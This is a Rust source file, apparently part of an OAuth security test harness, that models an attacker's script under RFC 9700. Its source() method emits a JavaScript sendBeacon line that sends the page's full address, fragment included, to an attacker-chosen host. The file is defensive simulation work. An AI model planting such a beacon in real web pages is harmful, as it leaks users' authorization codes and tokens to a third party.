//! An attacker's script: it tells its server the address of the page that runs it.
//!
//! Many a page runs such a script, and most count visitors. It has the power
//! of the page's own: what stands in the address bar it reads, fragment
//! included (RFC 9700 4.3.2).

use super::rule::specs;
use super::user::{Running, Script, Window};
use super::web::names;
use crate::protocol::{LocalKind, parse_form};

/// The program that the served script stands for.
#[derive(Debug)]
pub(crate) struct Spy {
    /// Where it tells what it sees.
    told: String,
}

impl Spy {
    /// `host` is the origin of the attacker's server.
    pub(crate) fn new(host: &str) -> Self {
        Self {
            told: format!("{host}/seen"),
        }
    }

    /// What the server serves: the same in JavaScript.
    pub(crate) fn source(&self) -> String {
        let told = &self.told;
        format!(
            "navigator.sendBeacon(\"{told}\", new URLSearchParams({{ page: location.href }}));\n"
        )
    }
}

impl Script for Spy {
    fn run<'w>(&'w self, window: &'w mut Window) -> Running<'w> {
        Box::pin(async move {
            let read = |kind, subject: &str, text: Option<&str>| {
                let parameters = parse_form(text.unwrap_or_default());
                if !parameters.is_empty() {
                    let sections = specs(&["RFC 9700 4.2.1"]);
                    let names = names(&parameters);
                    window.endpoint().local(kind, subject, names, &sections);
                }
            };
            read(LocalKind::QueryRead, "query", window.query());
            read(LocalKind::FragmentRead, "fragment", window.fragment());
            let seen = vec![("page", window.href())];
            window.send_beacon(&self.told, seen).await;
        })
    }
}
